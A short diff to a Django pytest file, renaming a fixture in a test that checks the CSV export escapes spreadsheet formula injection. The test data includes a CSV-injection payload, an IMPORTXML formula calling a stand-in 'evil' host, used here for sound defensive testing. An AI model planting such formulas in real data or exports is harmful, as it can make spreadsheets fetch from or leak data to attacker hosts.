@@ -29,8 +29,8 @@ def test_the_renderer_escapes_a_single_object():
 
 
 @pytest.mark.django_db
-def test_an_injected_scenario_name_is_escaped_in_the_export(published, api, csv_rows):
-    published.facility.scenarios.update(description="=IMPORTXML(\"http://evil\")")
+def test_an_injected_scenario_name_is_escaped_in_the_export(memphis, api, csv_rows):
+    memphis.scenarios.update(description="=IMPORTXML(\"http://evil\")")
     rows = csv_rows(api.get("/api/v1/scenarios/", {"format": "csv"}))
     column = rows[0].index("description")
     assert all(row[column].startswith("'=") for row in rows[1:])
